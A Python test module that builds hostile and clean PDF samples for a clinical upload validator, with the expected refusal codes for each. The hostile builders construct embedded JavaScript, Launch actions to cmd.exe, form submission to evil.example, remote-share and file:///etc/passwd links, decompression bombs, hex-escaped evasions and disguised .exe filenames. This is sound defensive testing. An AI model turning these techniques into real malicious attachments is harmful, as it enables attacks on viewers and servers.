"""Builds the upload validator's corpus: hostile PDFs (each with the refusal codes that are
right for it) and clean PDFs a clinician might attach. Everything is generated with pikepdf, or
written byte by byte where pikepdf would normalise the trick away (hex-escaped names, broken
cross-reference tables), so no downloaded binary is committed."""

from __future__ import annotations

import base64
import functools
import io
import random
import warnings
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pikepdf
from PIL import Image

from reports.pdf_validation import MAX_ATTACHMENT_BYTES, MAX_DECODED_BYTES

Name = pikepdf.Name
Dictionary = pikepdf.Dictionary
Array = pikepdf.Array
String = pikepdf.String

TEXT_FONT = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)


@dataclass(frozen=True)
class Sample:
    data: bytes
    filename: str = "report.pdf"
    # Hostile samples: the refusal codes that are right (several when the file breaks several
    # rules and either may be found first). Clean samples: empty.
    codes: frozenset[str] = field(default_factory=frozenset)
    max_bytes: int = MAX_ATTACHMENT_BYTES


# --- building blocks --------------------------------------------------------------------------


def save(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    """Serialise `pdf`, leaving already-filtered streams as they are (qpdf would otherwise
    inflate and recompress the bombs)."""
    if "encryption" not in options:
        options.setdefault("stream_decode_level", pikepdf.StreamDecodeLevel.none)
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        # A widget without /AcroForm is exactly what one hostile sample is for.
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)
        pdf.save(buffer, static_id=True, **options)
    return buffer.getvalue()


def text_page(pdf: pikepdf.Pdf, text: str = "Haemoglobin 135 g/L") -> pikepdf.Page:
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=TEXT_FONT))
    page.obj.Contents = pdf.make_stream(content)
    return page


def document(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for number in range(1, pages + 1):
        text_page(pdf, f"Page {number} of the lab report")
    return pdf


def with_link(action: Dictionary, *, key: str = "/A") -> bytes:
    """A one-page document whose single link annotation carries `action` under `key`."""
    pdf = document()
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 720]), Border=Array([0, 0, 0])
    )
    annotation[key] = action
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
    return save(pdf)


def with_annotation(subtype: str, **entries: object) -> bytes:
    pdf = document()
    annotation = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([72, 600, 200, 700]))
    for key, value in entries.items():
        annotation[Name("/" + key)] = value
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])
    return save(pdf)


def with_catalog_entry(
    key: str, value: Callable[[pikepdf.Pdf], object], **options: object
) -> bytes:
    pdf = document()
    pdf.Root[Name(key)] = value(pdf)
    return save(pdf, **options)


def javascript(code: str = "app.alert('pwned');") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def names_tree_javascript(pdf: pikepdf.Pdf) -> Dictionary:
    return Dictionary(
        JavaScript=pdf.make_indirect(
            Dictionary(Names=Array([String("init"), pdf.make_indirect(javascript())]))
        )
    )


def raw_pdf(
    objects: list[bytes], *, trailer: bytes = b"/Root 1 0 R", version: bytes = b"1.7"
) -> bytes:
    """A classic-xref PDF written byte by byte, for tricks pikepdf would normalise away.

    `objects[i]` is the body of object i + 1."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


RAW_PAGE_TREE = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
]


def flate_bomb(pdf: pikepdf.Pdf, decoded: int) -> pikepdf.Object:
    """A stream of zeros that inflates to `decoded` bytes from roughly decoded / 1000."""
    return pdf.make_stream(deflated_zeros(decoded), Filter=Name.FlateDecode)


@functools.cache
def deflated_zeros(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    parts = [compressor.compress(chunk) for _ in range(size >> 20)]
    parts.append(compressor.compress(bytes(size % (1 << 20))))
    parts.append(compressor.flush())
    return b"".join(parts)


def noise_jpeg(width: int = 200, height: int = 120) -> bytes:
    image = Image.frombytes("RGB", (width, height), random.Random(4).randbytes(width * height * 3))
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=80)
    return buffer.getvalue()


def page_with_image(pdf: pikepdf.Pdf, image: pikepdf.Object) -> None:
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Resources = Dictionary(XObject=Dictionary(Im1=image))
    page.obj.Contents = pdf.make_stream(b"q 200 0 0 120 72 600 cm /Im1 Do Q")


def run_length_encode(data: bytes) -> bytes:
    """RunLengthDecode's literal runs (pikepdf cannot write this filter)."""
    out = bytearray()
    for start in range(0, len(data), 128):
        run = data[start : start + 128]
        out += bytes([len(run) - 1]) + run
    return bytes(out + b"\x80")


# --- hostile ----------------------------------------------------------------------------------


def _openaction_javascript() -> bytes:
    return with_catalog_entry("/OpenAction", lambda pdf: pdf.make_indirect(javascript()))


def _names_tree_javascript() -> bytes:
    return with_catalog_entry("/Names", names_tree_javascript)


def _javascript_in_object_stream() -> bytes:
    return with_catalog_entry(
        "/Names",
        names_tree_javascript,
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
        compress_streams=True,
    )


def _javascript_as_stream() -> bytes:
    def tree(pdf: pikepdf.Pdf) -> Dictionary:
        action = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.launchURL('x');"))
        return Dictionary(
            JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(action)]))
        )

    return with_catalog_entry("/Names", tree)


def _page_additional_actions() -> bytes:
    pdf = document()
    pdf.pages[0].obj.AA = Dictionary(O=javascript())
    return save(pdf)


def _outline_javascript() -> bytes:
    pdf = document()
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Results", 0))
    first = pdf.Root.Outlines.First
    del first["/Dest"]
    first.A = javascript()
    return save(pdf)


def _chained_javascript() -> bytes:
    go = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=javascript())
    return with_link(go)


def _cyclic_dictionaries_with_javascript() -> bytes:
    pdf = document()
    first = pdf.make_indirect(Dictionary(Note=String("first")))
    second = pdf.make_indirect(Dictionary(Back=first, Hidden=javascript()))
    first.Forward = second
    pdf.Root.Private = first
    return save(pdf)


def _orphan_javascript() -> bytes:
    """JavaScript in an object no other object refers to: only the cross-reference table
    reaches it, which is why the walk covers every object and not just the reachable ones."""
    pdf = document()
    data = save(pdf)
    objects = data.count(b" 0 obj")
    orphan = b"%d 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n" % (objects + 1)
    # Append an incremental update that only adds the orphan object.
    update = bytearray(data)
    offset = len(update)
    update += orphan
    xref = len(update)
    previous = int(data[data.rindex(b"startxref") + 9 :].split()[0])
    update += b"xref\n%d 1\n%010d 00000 n \n" % (objects + 1, offset)
    update += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        objects + 2,
        previous,
        xref,
    )
    return bytes(update)


def _incremental_update_adds_openaction() -> bytes:
    """A clean revision followed by an update that rewrites the catalog with an OpenAction."""
    data = raw_pdf(RAW_PAGE_TREE)
    previous = int(data[data.rindex(b"startxref") + 9 :].split()[0])
    update = bytearray(data)
    catalog = len(update)
    update += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n"
    action = len(update)
    update += b"4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    xref = len(update)
    update += b"xref\n0 2\n0000000000 65535 f \n%010d 00000 n \n4 1\n%010d 00000 n \n" % (
        catalog,
        action,
    )
    update += b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        previous,
        xref,
    )
    return bytes(update)


def _hex_escaped_javascript() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
            *RAW_PAGE_TREE[1:],
            b"<< /Names [(x) << /S /J#61v#61Script /#4a#53 (app.alert(1)) >>] >>",
        ]
    )


def _hex_escaped_js_key() -> bytes:
    objects = list(RAW_PAGE_TREE)
    objects[2] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Annots [4 0 R] >>"
    )
    objects.append(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (https://x) /#4AS (1) >> >>"
    )
    return raw_pdf(objects)


def _hex_escaped_openaction() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Open#41ction [3 0 R /Fit] >>",
            *RAW_PAGE_TREE[1:],
        ]
    )


def _hex_escaped_launch() -> bytes:
    objects = list(RAW_PAGE_TREE)
    objects[2] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Annots [4 0 R] >>"
    )
    objects.append(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (cmd.exe) >> >>"
    )
    return raw_pdf(objects)


def _embedded_files() -> bytes:
    pdf = document()
    pdf.attachments["results.csv"] = pikepdf.AttachedFileSpec(
        pdf, b"hb,135\n", mime_type="text/csv"
    )
    return save(pdf)


def _file_attachment_annotation() -> bytes:
    pdf = document()
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="invoice.exe")
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 600, 90, 620]), FS=spec.obj
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])
    return save(pdf)


def _embedded_file_stream_only() -> bytes:
    pdf = document()
    pdf.Root.Private = pdf.make_stream(b"PK\x03\x04", Type=Name.EmbeddedFile)
    return save(pdf)


def _xfa_form() -> bytes:
    def form(pdf: pikepdf.Pdf) -> Dictionary:
        return Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))

    return with_catalog_entry("/AcroForm", form)


def _xfa_without_acroform_key() -> bytes:
    pdf = document()
    pdf.Root.Private = Dictionary(XFA=pdf.make_stream(b"<xdp:xdp/>"))
    return save(pdf)


def _acroform() -> bytes:
    pdf = document()
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T=String("name"),
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=Array([72, 500, 300, 520]),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return save(pdf)


def _widget_additional_actions() -> bytes:
    return with_annotation("/Widget", AA=Dictionary(K=javascript()))


def _link_annotation_additional_actions() -> bytes:
    return with_link(Dictionary(E=javascript()), key="/AA")


def _too_many_pages() -> bytes:
    pdf = pikepdf.new()
    for _ in range(201):
        pdf.add_blank_page()
    return save(pdf)


def _too_big() -> bytes:
    pdf = document()
    pdf.Root.Private = pdf.make_stream(random.Random(2).randbytes(MAX_ATTACHMENT_BYTES))
    return save(pdf)


def _flate_bomb() -> bytes:
    pdf = document()
    pdf.Root.Private = flate_bomb(pdf, MAX_DECODED_BYTES + (4 << 20))
    return save(pdf)


def _flate_bomb_across_streams() -> bytes:
    pdf = document()
    pdf.Root.Private = Array([flate_bomb(pdf, 6 << 20) for _ in range(9)])
    return save(pdf)


def _nested_flate_bomb() -> bytes:
    pdf = document()
    inner = flate_bomb(pdf, MAX_DECODED_BYTES + (4 << 20)).read_raw_bytes()
    pdf.Root.Private = pdf.make_stream(
        zlib.compress(inner, 9), Filter=Array([Name.FlateDecode, Name.FlateDecode])
    )
    return save(pdf)


def _ascii85_flate_bomb() -> bytes:
    pdf = document()
    packed = flate_bomb(pdf, MAX_DECODED_BYTES + (4 << 20)).read_raw_bytes()
    pdf.Root.Private = pdf.make_stream(
        base64.a85encode(packed) + b"~>", Filter=Array([Name.ASCII85Decode, Name.FlateDecode])
    )
    return save(pdf)


def _nested_arrays(depth: int) -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth + b" >>",
            *RAW_PAGE_TREE[1:],
        ]
    )


def _wrong_xref_offsets() -> bytes:
    data = raw_pdf(RAW_PAGE_TREE)
    start = data.index(b"0000000000 65535 f \n") + 20
    line = data[start + 20 : start + 40]
    wrong = b"%010d 00000 n \n" % (int(line[:10]) + 7)
    return data[: start + 20] + wrong + data[start + 40 :]


def _wrong_stream_length() -> bytes:
    objects = list(RAW_PAGE_TREE)
    objects[2] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 4 0 R >>"
    )
    objects.append(b"<< /Length 3 >>\nstream\nBT ET q Q\nendstream")
    return raw_pdf(objects)


def _garbage_body() -> bytes:
    return b"%PDF-1.7\n" + random.Random(7).randbytes(4000) + b"\n%%EOF\n"


def _no_pages() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def _external_stream() -> bytes:
    pdf = document()
    pdf.Root.Private = pdf.make_stream(b"", F=String("/etc/passwd"))
    return save(pdf)


def _unknown_filter() -> bytes:
    pdf = document()
    pdf.Root.Private = pdf.make_stream(b"opaque", Filter=Name.SecretSauceDecode)
    return save(pdf)


def _javascript_in_document_info() -> bytes:
    pdf = document()
    pdf.docinfo.Title = String("Lab report")
    pdf.docinfo.Custom = javascript()
    return save(pdf)


def _truncated() -> bytes:
    data = save(document(3))
    return data[: len(data) // 2]


def _encrypted(user: str) -> bytes:
    return save(document(), encryption=pikepdf.Encryption(owner="owner-secret", user=user, R=6))


def _richmedia() -> bytes:
    return with_annotation(
        "/RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([])))
    )


HOSTILE_BUILDERS: dict[str, tuple[Callable[[], bytes], set[str], str]] = {
    # name: (builder, acceptable refusal codes, filename)
    "javascript in the open action": (
        _openaction_javascript,
        {"automatic-action", "javascript"},
        "",
    ),
    "javascript in the names tree": (_names_tree_javascript, {"javascript"}, ""),
    "javascript inside an object stream": (_javascript_in_object_stream, {"javascript"}, ""),
    "javascript as a stream": (_javascript_as_stream, {"javascript"}, ""),
    "javascript in page additional actions": (
        _page_additional_actions,
        {"automatic-action", "javascript"},
        "",
    ),
    "javascript in link additional actions": (
        _link_annotation_additional_actions,
        {"automatic-action", "javascript"},
        "",
    ),
    "javascript in widget additional actions": (
        _widget_additional_actions,
        {"automatic-action", "javascript"},
        "",
    ),
    "javascript as a link action": (lambda: with_link(javascript()), {"javascript"}, ""),
    "javascript as an outline action": (_outline_javascript, {"javascript"}, ""),
    "javascript chained after a goto": (_chained_javascript, {"javascript"}, ""),
    "javascript in cyclic dictionaries": (_cyclic_dictionaries_with_javascript, {"javascript"}, ""),
    "javascript in an unreferenced object": (_orphan_javascript, {"javascript"}, ""),
    "javascript in the document info": (_javascript_in_document_info, {"javascript"}, ""),
    "javascript behind hex-escaped names": (_hex_escaped_javascript, {"javascript"}, ""),
    "javascript key behind hex escapes": (_hex_escaped_js_key, {"javascript"}, ""),
    "open action behind hex escapes": (_hex_escaped_openaction, {"automatic-action"}, ""),
    "open action added by an incremental update": (
        _incremental_update_adds_openaction,
        {"automatic-action", "javascript"},
        "",
    ),
    "launch action on a link": (
        lambda: with_link(Dictionary(S=Name.Launch, F=String("calc.exe"))),
        {"launch"},
        "",
    ),
    "launch action behind hex escapes": (_hex_escaped_launch, {"launch"}, ""),
    "launch action on open": (
        lambda: with_catalog_entry(
            "/OpenAction", lambda pdf: Dictionary(S=Name.Launch, F=String("cmd.exe"))
        ),
        {"automatic-action", "launch"},
        "",
    ),
    "embedded files": (_embedded_files, {"embedded-file"}, ""),
    "file attachment annotation": (_file_attachment_annotation, {"embedded-file"}, ""),
    "bare embedded file stream": (_embedded_file_stream_only, {"embedded-file"}, ""),
    "rich media annotation": (_richmedia, {"multimedia"}, ""),
    "screen annotation": (lambda: with_annotation("/Screen"), {"multimedia"}, ""),
    "movie annotation": (
        lambda: with_annotation("/Movie", Movie=Dictionary(F=String("clip.mov"))),
        {"multimedia"},
        "",
    ),
    "sound annotation": (lambda: with_annotation("/Sound"), {"multimedia"}, ""),
    "3d annotation": (lambda: with_annotation("/3D"), {"multimedia"}, ""),
    "rendition action": (
        lambda: with_link(Dictionary(S=Name.Rendition, OP=0)),
        {"multimedia"},
        "",
    ),
    "xfa form": (_xfa_form, {"form"}, ""),
    "xfa outside a form": (_xfa_without_acroform_key, {"form"}, ""),
    "acroform": (_acroform, {"form"}, ""),
    "submit form action": (
        lambda: with_link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))),
        {"form"},
        "",
    ),
    "import data action": (
        lambda: with_link(Dictionary(S=Name.ImportData, F=String("data.fdf"))),
        {"form"},
        "",
    ),
    "remote goto action": (
        lambda: with_link(
            Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0, Name.Fit]))
        ),
        {"other-document"},
        "",
    ),
    "embedded goto action": (
        lambda: with_link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a")))),
        {"other-document"},
        "",
    ),
    "javascript url": (
        lambda: with_link(Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)"))),
        {"link"},
        "",
    ),
    "javascript url hidden by a tab": (
        lambda: with_link(Dictionary(S=Name.URI, URI=String("java\tscript:alert(1)"))),
        {"link"},
        "",
    ),
    "file url": (
        lambda: with_link(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        {"link"},
        "",
    ),
    "hide action": (lambda: with_link(Dictionary(S=Name.Hide, T=String("x"))), {"action"}, ""),
    "non-standard named action": (
        lambda: with_link(Dictionary(S=Name.Named, N=Name.SaveAs)),
        {"action"},
        "",
    ),
    "encrypted with a user password": (lambda: _encrypted("open-sesame"), {"encrypted"}, ""),
    "encrypted with an owner password only": (lambda: _encrypted(""), {"encrypted"}, ""),
    "truncated": (_truncated, {"truncated"}, ""),
    "garbage after the end marker": (
        lambda: save(document()) + b"<script>alert(1)</script>",
        {"trailing-data"},
        "",
    ),
    "zip after the end marker": (
        lambda: save(document()) + b"PK\x03\x04" + bytes(30) + b"%%EOF-not",
        {"trailing-data"},
        "",
    ),
    "not a pdf named .pdf": (lambda: b"PK\x03\x04" + bytes(100) + b"%%EOF", {"not-pdf"}, ""),
    "html named .pdf": (
        lambda: b"<html><script>alert(1)</script></html>\n%PDF-1.7\n%%EOF\n",
        {"not-pdf"},
        "",
    ),
    "bytes before the header": (lambda: b"\xef\xbb\xbf" + save(document()), {"not-pdf"}, ""),
    "pdf named .txt": (lambda: save(document()), {"not-pdf-name"}, "report.txt"),
    "pdf named with a double extension": (
        lambda: save(document()),
        {"not-pdf-name"},
        "scan.pdf.exe",
    ),
    "right-to-left override hiding .exe": (
        lambda: save(document()),
        {"not-pdf-name"},
        "invoice\u202efdp.exe",
    ),
    "empty file": (lambda: b"", {"empty"}, ""),
    "201 pages": (_too_many_pages, {"too-many-pages"}, ""),
    "too big for the api body": (_too_big, {"too-big"}, ""),
    "flate bomb": (_flate_bomb, {"too-much-content"}, ""),
    "flate bomb split across streams": (_flate_bomb_across_streams, {"too-much-content"}, ""),
    "nested flate bomb": (_nested_flate_bomb, {"too-much-content"}, ""),
    "ascii85 flate bomb": (_ascii85_flate_bomb, {"too-much-content"}, ""),
    "arrays nested past the parser limit": (lambda: _nested_arrays(5000), {"damaged"}, ""),
    "wrong cross-reference offsets": (_wrong_xref_offsets, {"damaged"}, ""),
    "wrong stream length": (_wrong_stream_length, {"damaged"}, ""),
    "pdf header over garbage": (_garbage_body, {"damaged"}, ""),
    "no pages": (_no_pages, {"no-pages"}, ""),
    "stream data in an external file": (_external_stream, {"external-content"}, ""),
    "a filter no viewer knows": (_unknown_filter, {"damaged"}, ""),
}


# --- clean ------------------------------------------------------------------------------------


def _with_links() -> bytes:
    pdf = document(2)
    targets = [
        Dictionary(S=Name.URI, URI=String("https://www.ncbi.nlm.nih.gov/books/NBK2263/")),
        Dictionary(S=Name.URI, URI=String("mailto:lab@example.org")),
        Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])),
        Dictionary(S=Name.Named, N=Name.NextPage),
    ]
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([72, 700 - 30 * i, 300, 720 - 30 * i]),
                    A=action,
                )
            )
            for i, action in enumerate(targets)
        ]
    )
    return save(pdf)


def _with_outlines() -> bytes:
    pdf = document(3)
    with pdf.open_outline() as outline:
        for number in range(3):
            outline.root.append(pikepdf.OutlineItem(f"Section {number + 1}", number))
    return save(pdf)


def _with_jpeg() -> bytes:
    pdf = pikepdf.new()
    jpeg = pdf.make_stream(
        noise_jpeg(),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=200,
        Height=120,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
    page_with_image(pdf, jpeg)
    return save(pdf)


def _with_flate_image() -> bytes:
    pdf = pikepdf.new()
    pixels = bytes(range(256)) * 75
    image = pdf.make_stream(
        zlib.compress(pixels),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=160,
        Height=120,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
        Filter=Name.FlateDecode,
    )
    page_with_image(pdf, image)
    return save(pdf)


def _tagged() -> bytes:
    """Structure elements carry `/S` (their type) and `/A` (attributes): neither is an action."""
    pdf = document()
    page = pdf.pages[0].obj
    element = pdf.make_indirect(
        Dictionary(
            Type=Name.StructElem,
            S=Name.P,
            Pg=page,
            A=Dictionary(O=Name.Layout, Placement=Name.Block),
        )
    )
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=element)
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    page.Group = Dictionary(Type=Name.Group, S=Name.Transparency, CS=Name.DeviceRGB)
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
    return save(pdf)


def _harmless_cycle() -> bytes:
    pdf = document()
    first = pdf.make_indirect(Dictionary(Note=String("first")))
    first.Self = first
    first.Other = pdf.make_indirect(Dictionary(Back=first))
    pdf.Root.Private = first
    return save(pdf)


def _dangerous_words_as_text() -> bytes:
    """The words /JavaScript and /OpenAction as page text and a title: only a byte search
    would object."""
    pdf = pikepdf.new()
    text_page(pdf, "See \\/JavaScript and \\/OpenAction /Launch in the appendix")
    pdf.docinfo.Title = String("/JavaScript /OpenAction /AA notes")
    return save(pdf, compress_streams=False)


def _ascii_filters() -> bytes:
    pdf = document()
    content = b"BT /F1 12 Tf 72 700 Td (ASCII85 and Flate) Tj ET"
    pdf.pages[0].obj.Contents = pdf.make_stream(
        base64.a85encode(zlib.compress(content)) + b"~>",
        Filter=Array([Name.ASCII85Decode, Name.FlateDecode]),
    )
    pdf.Root.Private = pdf.make_stream(content.hex().encode() + b">", Filter=Name.ASCIIHexDecode)
    return save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def _run_length() -> bytes:
    pdf = document()
    content = b"BT /F1 12 Tf 72 700 Td (RunLength) Tj ET"
    pdf.pages[0].obj.Contents = pdf.make_stream(
        run_length_encode(content), Filter=Name.RunLengthDecode
    )
    return save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def _near_the_limit() -> bytes:
    pdf = document()
    filler = MAX_ATTACHMENT_BYTES - 2000
    for _ in range(3):
        pdf.Root.Private = pdf.make_stream(random.Random(1).randbytes(filler))
        data = save(pdf, compress_streams=False)
        filler += MAX_ATTACHMENT_BYTES - len(data)
    assert len(data) == MAX_ATTACHMENT_BYTES
    return data


def _with_metadata() -> bytes:
    pdf = document()
    with pdf.open_metadata() as meta:
        meta["dc:title"] = "Full blood count"
        meta["dc:creator"] = ["Dr A. Okafor"]
    pdf.docinfo.Author = String("Dr A. Okafor")
    return save(pdf)


def _blank() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return pdf


CLEAN_BUILDERS: dict[str, tuple[Callable[[], bytes], int, str]] = {
    # name: (builder, page count, filename)
    "single blank page": (lambda: save(_blank()), 1, ""),
    "single text page": (lambda: save(document()), 1, ""),
    "five pages": (lambda: save(document(5)), 5, ""),
    "200 pages": (lambda: save(document(200)), 200, ""),
    "jpeg image": (_with_jpeg, 1, ""),
    "flate image": (_with_flate_image, 1, ""),
    "web, e-mail, internal and next-page links": (_with_links, 2, ""),
    "outlines": (_with_outlines, 3, ""),
    "pdf 1.4": (lambda: save(document(), force_version="1.4"), 1, ""),
    "pdf 1.7": (lambda: save(document(), force_version="1.7"), 1, ""),
    "pdf 2.0": (lambda: save(document(), force_version="2.0"), 1, ""),
    "linearized": (lambda: save(document(4), linearize=True), 4, ""),
    "object streams": (
        lambda: save(document(3), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        3,
        "",
    ),
    "linearized with object streams": (
        lambda: save(
            document(3), linearize=True, object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        3,
        "",
    ),
    "xmp metadata and document info": (_with_metadata, 1, ""),
    "tagged with structure attributes": (_tagged, 1, ""),
    "harmless reference cycle": (_harmless_cycle, 1, ""),
    "dangerous words as text": (_dangerous_words_as_text, 1, ""),
    "ascii85 and asciihex filters": (_ascii_filters, 1, ""),
    "runlength filter": (_run_length, 1, ""),
    "just under the size cap": (_near_the_limit, 1, ""),
    "arrays nested 450 deep": (lambda: _nested_arrays(450), 1, ""),
    "hand-written classic xref": (lambda: raw_pdf(RAW_PAGE_TREE, version=b"1.4"), 1, ""),
    "trailing newlines after the end marker": (lambda: save(document()) + b"\r\n\r\n  \n", 1, ""),
    "upper-case extension": (lambda: save(document()), 1, "RESULTS.PDF"),
    "windows path and odd characters": (
        lambda: save(document()),
        1,
        'C:\\Users\\dr\\Befund: März "final".pdf',
    ),
}


def hostile_samples() -> dict[str, Sample]:
    return {
        name: Sample(builder(), filename=filename or "report.pdf", codes=frozenset(codes))
        for name, (builder, codes, filename) in HOSTILE_BUILDERS.items()
    }


def clean_samples() -> dict[str, tuple[Sample, int]]:
    return {
        name: (Sample(builder(), filename=filename or "report.pdf"), pages)
        for name, (builder, pages, filename) in CLEAN_BUILDERS.items()
    }
